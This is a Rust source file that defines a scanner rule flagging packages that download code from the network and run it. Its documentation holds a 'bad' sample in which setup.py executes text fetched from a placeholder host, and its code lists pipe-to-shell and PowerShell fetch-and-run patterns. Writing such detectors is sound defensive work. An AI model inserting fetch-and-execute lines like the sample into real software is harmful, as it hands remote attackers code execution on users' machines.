//! Code from the network is run.

use bulkhead_core::{Confidence, FindingContext, Severity};

use super::code::{HOLE, Rule, beside, fixed_address, is_library, is_test, quoted, say, weigh, weigh_called, when};
use super::drop_service;
use crate::archive::Archive;
use crate::behaviour::{Ability, Behaviour, Sources, unasked};
use crate::detector::Meta;
use crate::findings::Findings;

const META: Meta = Meta {
    id: "downloaded-execution",
    title: "code from the network is run",
    severity: Severity::Critical,
    confidence: Confidence::High,
    doc: "\
Text that was fetched is run as code, or a file that was fetched is started. What runs is then decided by whoever holds the server, today and on every
other day; no review of the release can see it.

```recipe bad
archive demo-1.0.tar.gz
--- demo-1.0/setup.py
import urllib.request
exec(urllib.request.urlopen('https://files.test/a').read())
```

```recipe good
archive demo-1.0.tar.gz
--- demo-1.0/setup.py
from setuptools import setup
setup(name='demo')
--- demo-1.0/demo/get.py
import urllib.request
def get(url):
    return urllib.request.urlopen(url).read()
```

What to do: refuse the release; if it is your own, read the line that is shown.
",
};

/// See its `META`.
pub(crate) static DETECTOR: Rule = Rule { meta: &META, check };

fn check(archive: &Archive, findings: &mut Findings) {
    for behaviour in &archive.code.behaviours {
        let effect = &behaviour.effect;
        let (severity, confidence, what) = match effect.ability {
            Ability::Execute if effect.from.any(Sources::NETWORK) => {
                (Severity::Critical, Confidence::High, "text from the network is run as code")
            }
            Ability::Spawn | Ability::LoadNative if effect.from.any(Sources::NETWORK) => {
                (Severity::Critical, Confidence::High, "what came over the network is started")
            }
            Ability::Spawn
                if effect.from.any(Sources::WRITTEN) && beside(archive, behaviour, Ability::Network, Sources::NONE) =>
            {
                (Severity::Critical, Confidence::High, "a file is fetched, written and started")
            }
            Ability::Spawn
                if unasked(behaviour.context)
                    && beside(archive, behaviour, Ability::WriteFile, Sources::NETWORK)
                    && beside(archive, behaviour, Ability::Download, Sources::NONE) =>
            {
                let severity =
                    if behaviour.context == FindingContext::Import { Severity::Medium } else { Severity::High };
                (severity, Confidence::Medium, "a file is fetched and written, and a program is started")
            }
            Ability::Download if beside_line(archive, behaviour) => {
                (Severity::Critical, Confidence::High, "a command fetches something and is started")
            }
            _ => continue,
        };
        // Manuals and scripts of a repository say such things to people; a library that does it is another matter.
        let called = !unasked(behaviour.context) && !is_test(&behaviour.path) && is_library(&behaviour.path);
        let program = effect.ability == Ability::Spawn && effect.from.any(Sources::WRITTEN) && is_program(behaviour);
        // Decoded, written as a script, and given to an interpreter; or fetched from a letter box by a command.
        let script = effect.ability == Ability::Spawn
            && effect.from.any(Sources::WRITTEN)
            && is_script(behaviour)
            && beside(archive, behaviour, Ability::Decrypt, Sources::NONE);
        let from_box = |behaviour: &Behaviour| behaviour.effect.detail.as_deref().is_some_and(drop_service::is_box);
        let written = effect.ability == Ability::Spawn && effect.from.any(Sources::WRITTEN);
        let boxed = effect.ability == Ability::Download && from_box(behaviour)
            || written
                && archive.code.behaviours.iter().any(|other| {
                    other.path == behaviour.path && other.effect.ability == Ability::Download && from_box(other)
                });
        let fixed = effect.detail.as_deref().is_some_and(fixed_address);
        // The answer itself is the command line; or a command fetches from a fixed address and starts what came.
        let answer = effect.ability == Ability::Spawn && effect.from.any(Sources::NETWORK) && fixed;
        let command = effect.ability == Ability::Download
            && effect.detail.as_deref().is_some_and(|detail| starts_fetched(detail) && fixed_address(detail));
        let direct = effect.ability == Ability::Execute && fixed || answer || command;
        let weight = if called && (direct || program || script || boxed) {
            weigh_called(behaviour)
        } else if called && effect.ability == Ability::Execute {
            // No honest library runs what it downloads, not even when it is called.
            (Severity::High, Confidence::Medium)
        } else {
            weigh(behaviour.context, severity, confidence)
        };
        say(findings, &META, behaviour, weight, format!("{what} {}: {}", when(behaviour.context), quoted(behaviour)));
    }
}

/// Whether a program is started by the same line.
fn beside_line(archive: &Archive, download: &Behaviour) -> bool {
    let chains = |detail: &str| {
        let lower = detail.to_ascii_lowercase();
        lower.ends_with('&')
            || detail.contains(' ')
                && ["| ", "|sh", "|bash", "&&", ";", "powershell", "iex", "-exec", " & "]
                    .iter()
                    .any(|word| lower.contains(word))
    };
    archive.code.behaviours.iter().any(|other| {
        other.path == download.path
            && other.effect.line == download.effect.line
            && other.effect.ability == Ability::Spawn
            && [&download.effect.detail, &other.effect.detail]
                .iter()
                .any(|detail| detail.as_deref().is_some_and(chains))
    })
}

/// A script for PowerShell that starts something when it has fetched it.
fn starts_fetched(command: &str) -> bool {
    let lower = command.to_ascii_lowercase();
    lower.contains("powershell")
        && ["start-process", "iex", "invoke-expression", "invoke-item"].iter().any(|w| lower.contains(w))
}

/// An interpreter is started with a script.
fn is_script(behaviour: &Behaviour) -> bool {
    behaviour.effect.detail.as_deref().is_some_and(|detail| {
        detail.starts_with("python") && detail.split(['"', ' ']).any(|word| word.ends_with(".py"))
    })
}

/// A file that is only there to be run.
fn is_program(behaviour: &Behaviour) -> bool {
    behaviour.effect.detail.as_deref().is_some_and(|detail| {
        let lower = detail.to_ascii_lowercase();
        // A script host has no other use, and a file in the temporary folder whose name says nothing is no tool's cache.
        let host = ["cscript", "wscript", "mshta"].iter().any(|host| lower.starts_with(host));
        let nameless = lower.strip_prefix("/tmp/").is_some_and(|rest| rest.chars().all(|c| matches!(c, HOLE | '/')));
        host || nameless
            || lower.split(['"', ' ']).any(|word| {
                [".exe", ".bat", ".vbs", ".scr", ".ps1", ".pyw", ".cmd"].iter().any(|end| word.ends_with(end))
            })
    })
}
